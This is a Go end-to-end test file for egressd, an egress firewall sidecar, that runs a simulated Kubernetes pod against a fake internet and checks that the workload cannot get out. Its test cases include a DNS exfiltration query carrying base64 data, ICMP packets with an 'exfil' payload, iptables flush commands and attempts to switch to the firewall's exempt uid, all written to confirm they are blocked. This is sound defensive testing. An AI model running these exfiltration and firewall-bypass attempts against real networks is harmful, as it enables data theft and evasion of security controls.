package e2e

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	"github.com/egressd/egressd/e2e/fakenet"
	"github.com/egressd/egressd/internal/syncbuf"
)

// Issue #11: the example Kubernetes pod (deploy/kubernetes/sandbox-pod.yaml),
// built for real on this machine. One network namespace of the fake internet
// is the pod's; in it, with the manifest's own arguments and users:
//
//   - the init step: `egressd firewall install` as uid 0 holding only
//     CAP_NET_ADMIN and CAP_NET_RAW (what the init container's
//     securityContext grants), with no_new_privs;
//   - the sidecar: `egressd serve` as the manifest's egressd uid, with no
//     capability at all, its policy in a ConfigMap-style directory (the
//     kubelet's ..data symlink layout), started once its startup probe
//     (`egressd health ... --ready`, run as that uid) passes;
//   - the workload: ordinary tools (curl, dig, python) as the manifest's
//     workload uid, no capabilities, no_new_privs.
//
// Every verdict is scored at the application layer: what the world's
// servers saw. The one deviation from the manifest: --upstream-dns names
// the world's resolver (in a pod egressd reads it from the pod's
// resolv.conf, here that file is the host's).
func TestPod(t *testing.T) {
	fakenet.RequireRoot(t)
	t.Parallel()
	pod := loadExamplePod(t)
	w := fakenet.Start(t)
	setRecords(w)
	s := w.NewSandbox(t)
	p := startPod(t, w, s, pod, basePolicy)

	for _, tc := range []struct {
		name string
		fn   func(t *testing.T, p *simPod)
	}{
		{"AllowedHostFetchedThroughProxyAndTransparently", testPodAllowedHost},
		{"BlockedAndUnlistedHostsNeverReachTheWorld", testPodBlockedHosts},
		{"DirectDNSToAnyServerIsAnsweredByEgressd", testPodDirectDNS},
		{"IPv6LeavesOnlyThroughEgressd", testPodIPv6},
		{"UDPAndICMPCannotLeave", testPodUDPAndICMP},
		{"WorkloadCannotRemoveTheFirewallOrReachTheAdminPort", testPodWorkloadCannotTouchFirewallOrAdmin},
		{"ConfigMapSymlinkSwapReloadsThePolicy", testPodConfigMapSwap},
		// Last: it kills egressd.
		{"KillingEgressdLeavesNoEgress", testPodFailsClosed},
	} {
		if !t.Run(tc.name, func(t *testing.T) { tc.fn(t, p.in(t)) }) && tc.name == "ConfigMapSymlinkSwapReloadsThePolicy" {
			t.Log("the reload test failed; the fail-closed test still runs")
		}
	}
}

// examplePod is what the test takes from the manifest.
type examplePod struct {
	firewallArgs []string // egressd's arguments in the init container
	serveArgs    []string // egressd's arguments in the sidecar
	probe        []string // the sidecar's startup probe, egressd's arguments
	policyMount  string   // where the policy ConfigMap is mounted
	egressdUID   int64
	egressdGID   int64
	workloadUID  int64
	workloadGID  int64
}

func loadExamplePod(t *testing.T) examplePod {
	t.Helper()
	b, err := os.ReadFile("../deploy/kubernetes/sandbox-pod.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var pod corev1.Pod
	if err := yaml.UnmarshalStrict(b, &pod); err != nil {
		t.Fatalf("sandbox-pod.yaml: %v", err)
	}
	var ep examplePod
	egressdArgs := func(c corev1.Container) []string {
		if len(c.Command) > 0 {
			if filepath.Base(c.Command[0]) != "egressd" {
				t.Fatalf("container %s runs %q, not egressd", c.Name, c.Command)
			}
			return append(slices.Clone(c.Command[1:]), c.Args...)
		}
		return c.Args
	}
	ids := func(c corev1.Container) (int64, int64) {
		if c.SecurityContext == nil || c.SecurityContext.RunAsUser == nil || c.SecurityContext.RunAsGroup == nil {
			t.Fatalf("container %s: no runAsUser/runAsGroup", c.Name)
		}
		return *c.SecurityContext.RunAsUser, *c.SecurityContext.RunAsGroup
	}
	for _, c := range pod.Spec.InitContainers {
		args := egressdArgs(c)
		switch {
		case len(args) >= 2 && args[0] == "firewall" && args[1] == "install":
			ep.firewallArgs = args
			if uid, _ := ids(c); uid != 0 {
				t.Fatalf("the firewall init container runs as %d; the test simulates uid 0 with NET_ADMIN and NET_RAW", uid)
			}
		case len(args) >= 1 && args[0] == "serve":
			ep.serveArgs = args
			ep.egressdUID, ep.egressdGID = ids(c)
			if c.StartupProbe == nil || c.StartupProbe.Exec == nil {
				t.Fatal("the sidecar has no exec startup probe")
			}
			ep.probe = egressdArgs(corev1.Container{Name: "startupProbe", Command: c.StartupProbe.Exec.Command})
			for _, vm := range c.VolumeMounts {
				if vm.Name == "policy" {
					ep.policyMount = vm.MountPath
				}
			}
		}
	}
	if len(pod.Spec.Containers) != 1 {
		t.Fatalf("want one workload container, got %d", len(pod.Spec.Containers))
	}
	ep.workloadUID, ep.workloadGID = ids(pod.Spec.Containers[0])
	if ep.firewallArgs == nil || ep.serveArgs == nil || ep.policyMount == "" {
		t.Fatalf("sandbox-pod.yaml: no firewall init container, egressd sidecar or policy mount: %+v", ep)
	}
	return ep
}

// simPod is the running pod.
type simPod struct {
	t        *testing.T
	w        *fakenet.World
	s        *fakenet.Sandbox
	ex       examplePod
	bin      string // egressd, where every uid can run it
	cm       *configMapDir
	workload asUser
	egressd  asUser
	init     asUser

	cmd    *exec.Cmd
	audit  *syncbuf.Buffer // the sidecar's stdout (--audit-log=-)
	log    *syncbuf.Buffer // its stderr (--log-format=json)
	exited chan struct{}
}

func (p *simPod) in(t *testing.T) *simPod {
	c := *p
	c.t = t
	return &c
}

// asUser runs commands inside the pod's namespace as uid:gid with no
// supplementary groups, no_new_privs, and only the capabilities in caps
// (setpriv --bounding-set syntax: "-all", "-all,+net_admin").
type asUser struct {
	s        *fakenet.Sandbox
	uid, gid int64
	caps     string
}

func (u asUser) Exec(ctx context.Context, name string, args ...string) *exec.Cmd {
	pre := []string{"--reuid=" + strconv.FormatInt(u.uid, 10), "--regid=" + strconv.FormatInt(u.gid, 10), "--clear-groups",
		"--no-new-privs", "--inh-caps=-all", "--bounding-set=" + u.caps, "--", name}
	return u.s.Exec(ctx, "setpriv", append(pre, args...)...)
}

func (u asUser) Name() string { return fmt.Sprintf("%s as %d:%d", u.s.Name(), u.uid, u.gid) }

// configMapDir lays out files the way the kubelet does for a ConfigMap
// volume: each version in a timestamped directory, "..data" a symlink to
// the current one, and each key a symlink through ..data; an update writes
// a new version and renames a new ..data symlink over the old one.
type configMapDir struct {
	dir     string
	version int
	current string
}

func (c *configMapDir) write(t *testing.T, files map[string]string) {
	t.Helper()
	c.version++
	ts := fmt.Sprintf("..2026_01_01_00_00_%02d.%d", c.version, os.Getpid())
	if err := os.Mkdir(filepath.Join(c.dir, ts), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(c.dir, ts, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	tmp := filepath.Join(c.dir, "..data_tmp")
	if err := os.Symlink(ts, tmp); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, filepath.Join(c.dir, "..data")); err != nil {
		t.Fatal(err)
	}
	for name := range files {
		link := filepath.Join(c.dir, name)
		if _, err := os.Lstat(link); os.IsNotExist(err) {
			if err := os.Symlink(filepath.Join("..data", name), link); err != nil {
				t.Fatal(err)
			}
		}
	}
	if c.current != "" {
		if err := os.RemoveAll(filepath.Join(c.dir, c.current)); err != nil {
			t.Fatal(err)
		}
	}
	c.current = ts
}

// startPod runs the init step, then the sidecar until its startup probe
// passes, as the kubelet would.
func startPod(t *testing.T, w *fakenet.World, s *fakenet.Sandbox, ex examplePod, policyTOML string) *simPod {
	t.Helper()
	dir, err := os.MkdirTemp("", "egt-pod-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	// The pod's users must reach the binary and the policy.
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "egressd")
	if b, err := os.ReadFile(egressdBin); err != nil {
		t.Fatal(err)
	} else if err := os.WriteFile(bin, b, 0o755); err != nil {
		t.Fatal(err)
	}
	cm := &configMapDir{dir: filepath.Join(dir, "policy")}
	if err := os.Mkdir(cm.dir, 0o755); err != nil {
		t.Fatal(err)
	}
	cm.write(t, map[string]string{"policy.toml": policyTOML})

	p := &simPod{
		t: t, w: w, s: s, ex: ex, bin: bin, cm: cm,
		workload: asUser{s: s, uid: ex.workloadUID, gid: ex.workloadGID, caps: "-all"},
		egressd:  asUser{s: s, uid: ex.egressdUID, gid: ex.egressdGID, caps: "-all"},
		init:     asUser{s: s, uid: 0, gid: 0, caps: "-all,+net_admin,+net_raw"},
		audit:    &syncbuf.Buffer{}, log: &syncbuf.Buffer{}, exited: make(chan struct{}),
	}

	// The pod's sysctl (securityContext.sysctls), set where the namespace is
	// made; the init step finds it set.
	if _, errOut, code := s.Run(t, "sh", "-c", "echo '1 0' >/proc/sys/net/ipv4/ping_group_range"); code != 0 {
		t.Fatalf("setting the pod's sysctl: %s", errOut)
	}

	r := run(t, p.init, "", bin, ex.firewallArgs...)
	if r.code != 0 || !strings.Contains(r.stdout, "installed and verified") {
		t.Fatalf("init container: egressd %s\n%s", strings.Join(ex.firewallArgs, " "), r)
	}
	t.Logf("init step: %s", strings.TrimSpace(r.stdout))

	args := make([]string, 0, len(ex.serveArgs)+4)
	for _, a := range ex.serveArgs {
		if v, ok := strings.CutPrefix(a, "--policy="+ex.policyMount+"/"); ok {
			a = "--policy=" + filepath.Join(cm.dir, v)
		}
		args = append(args, a)
	}
	args = append(args, "--upstream-dns", dnsAddr.String(), "--sandbox-id", "pod-"+s.Name())
	p.cmd = p.egressd.Exec(context.Background(), bin, args...)
	p.cmd.Env = cleanEnv()
	p.cmd.Stdout, p.cmd.Stderr = p.audit, p.log
	if err := p.cmd.Start(); err != nil {
		t.Fatalf("starting the sidecar: %v", err)
	}
	go func() {
		_ = p.cmd.Wait()
		close(p.exited)
	}()
	t.Cleanup(p.stop)

	deadline := time.Now().Add(15 * time.Second)
	for {
		r := run(t, p.egressd, "", bin, ex.probe...)
		if r.code == 0 {
			break
		}
		select {
		case <-p.exited:
			t.Fatalf("the sidecar exited before its startup probe passed:\n%s", p.log)
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("startup probe still failing after 15s: %s\nsidecar log:\n%s", r, p.log)
		}
		time.Sleep(200 * time.Millisecond)
	}
	return p
}

// stop ends the sidecar (SIGTERM, then SIGKILL to its group) and logs its
// output when the test failed.
func (p *simPod) stop() {
	if p.cmd.Process != nil {
		_ = p.cmd.Process.Signal(syscall.SIGTERM)
		select {
		case <-p.exited:
		case <-time.After(5 * time.Second):
			p.t.Errorf("the sidecar (pid %d) still running 5s after SIGTERM; killing it", p.cmd.Process.Pid)
			_ = syscall.Kill(-p.cmd.Process.Pid, syscall.SIGKILL)
			<-p.exited
		}
	}
	if p.t.Failed() {
		p.t.Logf("sidecar log:\n%s\naudit:\n%s", p.log, p.audit)
	}
}

// curl runs curl as the workload, trusting the world's CA.
func (p *simPod) curl(args ...string) result {
	p.t.Helper()
	return run(p.t, p.workload, "", "curl", append([]string{"-sS", "--max-time", "5", "--cacert", p.w.CAFile()}, args...)...)
}

// fetch is curl as the workload; ok when the fake server answered.
func (p *simPod) fetch(args ...string) (fakenet.HTTPRequest, result, bool) {
	p.t.Helper()
	r := p.curl(args...)
	if r.code != 0 {
		return fakenet.HTTPRequest{}, r, false
	}
	reply, err := fakenet.ParseReply([]byte(r.stdout))
	return reply, r, err == nil
}

func (p *simPod) python(script string, args ...string) result {
	p.t.Helper()
	return run(p.t, p.workload, "", pythonBin, append([]string{"-c", script}, args...)...)
}

// auditHas reports whether the sidecar wrote an audit record with all of
// the given "key":value pairs (JSON fragments), waiting up to 5 s for it:
// records are written in batches (--audit-flush-interval), and a
// connection's when it ends.
func (p *simPod) auditHas(frags ...string) bool {
	deadline := time.Now().Add(5 * time.Second)
	for {
		for _, line := range strings.Split(p.audit.String(), "\n") {
			ok := line != ""
			for _, f := range frags {
				ok = ok && strings.Contains(line, f)
			}
			if ok {
				return true
			}
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func testPodAllowedHost(t *testing.T, p *simPod) {
	before := p.w.HTTPRequests("allowed.test")
	for _, tc := range []struct {
		name string
		args []string
		kind string
	}{
		{"explicit proxy (HTTPS_PROXY)", []string{"-x", proxyURL, "https://allowed.test/proxied"}, "connect"},
		{"transparent TLS", []string{"https://allowed.test/direct"}, "tls"},
		{"transparent HTTP", []string{"http://allowed.test/plain"}, "http"},
	} {
		reply, r, ok := p.fetch(tc.args...)
		if !ok || reply.Host != "allowed.test" {
			t.Errorf("%s: want the fake server's reply for allowed.test\n%s", tc.name, r)
			continue
		}
		// The request left from the pod's own address: egressd's socket in
		// the pod's namespace, not some other path.
		if reply.Remote.Addr() != p.s.Addr() {
			t.Errorf("%s: the world saw the request from %s, want the pod's %s", tc.name, reply.Remote.Addr(), p.s.Addr())
		}
		if !eventually(5*time.Second, func() bool {
			return p.auditHas(`"kind":"`+tc.kind+`"`, `"target":"allowed.test"`, `"decision":"allow"`)
		}) {
			t.Errorf("%s: no allow audit record of kind %s on the sidecar's stdout", tc.name, tc.kind)
		}
	}
	if n := p.w.HTTPRequests("allowed.test") - before; n != 3 {
		t.Errorf("the world served %d requests for allowed.test, want 3", n)
	}
}

func testPodBlockedHosts(t *testing.T, p *simPod) {
	for _, args := range [][]string{
		{"-x", proxyURL, "https://blocked.test/"},
		{"--resolve", "blocked.test:443:203.0.113.10", "https://blocked.test/"},
		{"-x", proxyURL, "https://other.test/"},
		{"https://other.test/"},
		{"--resolve", "other.test:443:198.51.100.10", "https://other.test/"},
		{"http://198.51.100.10/"},
	} {
		if reply, r, ok := p.fetch(args...); ok {
			t.Errorf("curl %s reached the server: %+v\n%s", strings.Join(args, " "), reply, r)
		}
	}
	for _, host := range []string{"blocked.test", "other.test", "198.51.100.10"} {
		if n := p.w.HTTPRequests(host); n != 0 {
			t.Errorf("the world served %d requests for %s", n, host)
		}
	}
	for _, name := range []string{"blocked.test", "other.test"} {
		if n := p.w.DNSQueries(name); n != 0 {
			t.Errorf("the world's DNS saw %d queries for %s", n, name)
		}
	}
	if !p.auditHas(`"target":"blocked.test"`, `"decision":"deny"`, `"reason":"blocked-by"`) {
		t.Error("no blocked-by audit record for blocked.test")
	}
}

func testPodDirectDNS(t *testing.T, p *simPod) {
	for _, server := range []string{"@203.0.113.53", "@198.51.100.10", "@2001:db8::53", "@127.0.0.1"} {
		for _, proto := range []string{"+notcp", "+tcp"} {
			d := dig(t, p.workload, server, proto, "other.test")
			if d.status != "NXDOMAIN" {
				t.Errorf("dig %s %s other.test: %s; want NXDOMAIN from egressd", server, proto, d)
			}
			d = dig(t, p.workload, server, proto, "allowed.test")
			if d.status != "NOERROR" || !slices.Contains(d.answers, "A 203.0.113.10") {
				t.Errorf("dig %s %s allowed.test: %s; want the world's answer through egressd", server, proto, d)
			}
		}
	}
	if n := p.w.DNSQueries("other.test"); n != 0 {
		t.Errorf("the world's DNS saw %d queries for other.test", n)
	}
	for _, q := range p.w.DNSLog() {
		if q.From.Addr() != p.s.Addr() && q.From.Addr() != p.s.Addr6() {
			t.Errorf("the world's DNS got a query from %s, not the pod", q.From)
		}
	}
	// An exfiltration query never leaves, whatever server it names.
	dig(t, p.workload, "@203.0.113.53", "c2VjcmV0.exfil.test")
	if n := p.w.DNSQueries("c2VjcmV0.exfil.test"); n != 0 {
		t.Errorf("the world's DNS saw the exfiltration query %d times", n)
	}
}

func testPodIPv6(t *testing.T, p *simPod) {
	if reply, r, ok := p.fetch("-6", "http://[2001:db8::10]/"); ok {
		t.Errorf("HTTP to the IPv6 literal reached the server %+v\n%s", reply, r)
	}
	if reply, r, ok := p.fetch("-6", "--resolve", "other.test:443:[2001:db8::10]", "https://other.test/"); ok {
		t.Errorf("HTTPS over IPv6 to an unlisted name reached the server %+v\n%s", reply, r)
	}
	probe := run(t, p.workload, "", pythonBin, "-c", tcpProbeScript, host6.String(), "7", "v6-echo")
	if strings.Contains(probe.stdout, `"reply": "v6-echo"`) {
		t.Errorf("raw IPv6 TCP to %s was echoed: %s", ap(host6, 7), probe.stdout)
	}
	if pr := probeUDP(t, p.workload, ap(host6, 7), "v6-udp"); pr.Reply != "" {
		t.Errorf("IPv6 UDP got a reply: %+v", pr)
	}
	for _, port := range []uint16{80, 443, 7} {
		if n := p.w.TCPAccepted(ap(host6, port)); n != 0 {
			t.Errorf("the world accepted %d IPv6 connections on port %d from the workload", n, port)
		}
	}
	if n := p.w.UDPReceived(ap(host6, 7)); n != 0 {
		t.Errorf("the world received %d IPv6 datagrams", n)
	}
	// IPv6 by an allowed name works: egressd resolves and dials it.
	reply, r, ok := p.fetch("-6", "https://v6only.test/")
	if !ok || reply.Host != "v6only.test" || reply.Local.Addr() != host6 || reply.Remote.Addr() != p.s.Addr6() {
		t.Errorf("v6only.test over IPv6: want the server's reply on %s from the pod's %s\n%+v\n%s", host6, p.s.Addr6(), reply, r)
	}
}

func testPodUDPAndICMP(t *testing.T, p *simPod) {
	echo4, echo6 := icmpEchoes(t, p.w)
	for _, a := range []netip.AddrPort{ap(host4, 7), ap(host4b, 123), ap(host4, 443)} {
		if pr := probeUDP(t, p.workload, a, "leak"); pr.Reply != "" {
			t.Errorf("UDP to %s got a reply: %+v", a, pr)
		}
		if n := p.w.UDPReceived(a); n != 0 {
			t.Errorf("the world received %d datagrams on %s", n, a)
		}
	}
	r := p.python(`
import socket
out = []
for fam, proto, dst in ((socket.AF_INET, socket.IPPROTO_ICMP, "203.0.113.10"), (socket.AF_INET6, socket.IPPROTO_ICMPV6, "2001:db8::10")):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            s = socket.socket(fam, kind, proto)
            s.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01exfil" if fam == socket.AF_INET else b"\x80\x00\x00\x00\x12\x34\x00\x01exfil", (dst, 0))
            out.append("sent")
        except Exception as e:
            out.append(type(e).__name__)
print(" ".join(out))
`)
	if strings.Contains(r.stdout, "sent") {
		t.Errorf("the workload sent ICMP: %s", r.stdout)
	}
	if a, b := icmpEchoes(t, p.w); a != echo4 || b != echo6 {
		t.Errorf("the world received ICMP echoes: v4 %d→%d, v6 %d→%d", echo4, a, echo6, b)
	}
}

func testPodWorkloadCannotTouchFirewallOrAdmin(t *testing.T, p *simPod) {
	// `egressd firewall` as the workload: refused for want of CAP_NET_ADMIN,
	// and says so.
	for _, op := range [][]string{{"remove"}, append([]string{"install"}, p.ex.firewallArgs[2:]...)} {
		r := run(t, p.workload, "", p.bin, append([]string{"firewall"}, op...)...)
		if r.code != 1 || !strings.Contains(r.stderr, "needs CAP_NET_ADMIN") {
			t.Errorf("egressd firewall %s as the workload: want exit 1 and a word about CAP_NET_ADMIN\n%s", op[0], r)
		}
	}
	for _, args := range [][]string{{"iptables", "-F"}, {"iptables", "-t", "nat", "-F"}, {"ip6tables", "-F"}} {
		if r := run(t, p.workload, "", args[0], args[1:]...); r.code == 0 {
			t.Errorf("%s as the workload succeeded", strings.Join(args, " "))
		}
	}
	// The uid fallback's weak point (THREATS G2): a process that becomes the
	// exempt uid walks past the filter. The workload holds no CAP_SETUID and
	// runs with no_new_privs (allowPrivilegeEscalation: false), so it cannot.
	exempt := strconv.FormatInt(p.ex.egressdUID, 10)
	r := p.python("import os\ntry:\n    os.setresuid(" + exempt + ", " + exempt + ", " + exempt + "); print('became')\nexcept Exception as e:\n    print(type(e).__name__)")
	if strings.Contains(r.stdout, "became") {
		t.Errorf("the workload became the exempt uid %s: %s", exempt, r)
	}
	r = run(t, p.workload, "", "setpriv", "--reuid="+exempt, "--", "curl", "-sS", "--max-time", "5", "--cacert", p.w.CAFile(),
		"--resolve", "other.test:443:198.51.100.10", "https://other.test/")
	if r.code == 0 {
		t.Errorf("setpriv --reuid=%s as the workload ran curl:\n%s", exempt, r)
	}
	if n := p.w.HTTPRequests("other.test"); n != 0 {
		t.Errorf("the world served %d requests for other.test", n)
	}
	// The rules are still exactly in place (verify as the init step would).
	verify := append([]string{"firewall", "verify"}, p.ex.firewallArgs[2:]...)
	if r := run(t, p.init, "", p.bin, verify...); r.code != 0 {
		t.Errorf("egressd firewall verify after the workload's attempts:\n%s", r)
	}

	// The admin endpoint: egressd's uid reaches it (the probes), the
	// workload does not, by address or with egressd's own health command.
	admin := ""
	for _, a := range p.ex.serveArgs {
		if v, ok := strings.CutPrefix(a, "--admin-listen="); ok {
			admin = v
		}
	}
	if admin == "" {
		t.Fatal("the sidecar has no --admin-listen")
	}
	if r := run(t, p.egressd, "", p.bin, "health", "--admin", admin); r.code != 0 {
		t.Errorf("health as egressd's uid: %s", r)
	}
	reloads := strings.Count(p.log.String(), "policy reloaded")
	for _, args := range [][]string{
		{"http://" + admin + "/healthz"},
		{"-X", "POST", "http://" + admin + "/reload"},
		{"--noproxy", "*", "http://" + strings.Replace(admin, "127.0.0.1", p.s.Addr().String(), 1) + "/policy"},
		{"-x", proxyURL, "http://" + admin + "/policy"},
	} {
		// --fail: egressd's own 403 for a denied proxy request is not an answer.
		if r := p.curl(append([]string{"--fail"}, args...)...); r.code == 0 {
			t.Errorf("curl %s as the workload got an answer:\n%s", strings.Join(args, " "), r)
		}
	}
	if r := run(t, p.workload, "", p.bin, "health", "--admin", admin); r.code == 0 {
		t.Errorf("egressd health as the workload reached the admin endpoint:\n%s", r)
	}
	if n := strings.Count(p.log.String(), "policy reloaded"); n != reloads {
		t.Errorf("the workload's POST /reload reached egressd (%d → %d reloads)", reloads, n)
	}
}

func testPodConfigMapSwap(t *testing.T, p *simPod) {
	reloaded := func() int { return strings.Count(p.log.String(), `"msg":"policy reloaded"`) }
	refused := func() int { return strings.Count(p.log.String(), `"msg":"policy reload refused`) }
	r0, f0 := reloaded(), refused()
	// The operator edits the ConfigMap: other.test in, allowed.test out.
	swapped := strings.Replace(basePolicy, `"allowed.test",`, `"other.test",`, 1)
	p.cm.write(t, map[string]string{"policy.toml": swapped})
	if !eventually(10*time.Second, func() bool { return reloaded() > r0 }) {
		t.Fatalf("no reload 10s after the ConfigMap's ..data swap; log:\n%s", p.log)
	}
	reply, r, ok := p.fetch("-x", proxyURL, "https://other.test/")
	if !ok || reply.Host != "other.test" {
		t.Errorf("other.test after the swap allowed it: want the server's reply\n%s", r)
	}
	before := p.w.HTTPRequests("allowed.test")
	if reply, r, ok := p.fetch("-x", proxyURL, "https://allowed.test/"); ok {
		t.Errorf("allowed.test after the swap removed it reached the server %+v\n%s", reply, r)
	}
	if n := p.w.HTTPRequests("allowed.test") - before; n != 0 {
		t.Errorf("the world served %d requests for allowed.test after it was removed", n)
	}

	// A broken edit is refused; the last good policy stays in force.
	p.cm.write(t, map[string]string{"policy.toml": "version = 1\n[network]\nalow = [\"allowed.test\"]\n"})
	if !eventually(10*time.Second, func() bool { return refused() > f0 }) {
		t.Fatalf("no refused reload 10s after a broken ConfigMap; log:\n%s", p.log)
	}
	if !strings.Contains(p.log.String(), "policy.toml:3:1") {
		t.Errorf("the refusal does not name the file, line and column:\n%s", p.log)
	}
	if _, r, ok := p.fetch("-x", proxyURL, "https://other.test/again"); !ok {
		t.Errorf("other.test after a refused reload: want the last good policy in force\n%s", r)
	}
	if _, _, ok := p.fetch("-x", proxyURL, "https://allowed.test/"); ok {
		t.Error("allowed.test after a refused reload reached the server")
	}
	// Back to the start, for the tests that follow.
	r1 := reloaded()
	p.cm.write(t, map[string]string{"policy.toml": basePolicy})
	if !eventually(10*time.Second, func() bool { return reloaded() > r1 }) {
		t.Fatalf("no reload after restoring the policy; log:\n%s", p.log)
	}
}

func testPodFailsClosed(t *testing.T, p *simPod) {
	if _, r, ok := p.fetch("-x", proxyURL, "https://allowed.test/"); !ok {
		t.Fatalf("allowed.test before egressd died: %s", r)
	}
	if err := p.cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	select {
	case <-p.exited:
	case <-time.After(5 * time.Second):
		t.Fatal("the sidecar survived SIGKILL for 5s")
	}
	p.w.ResetCounters()
	assertNothingLeavesWithEgressdDead(t, p.w, p.workload, p.fetch)
}
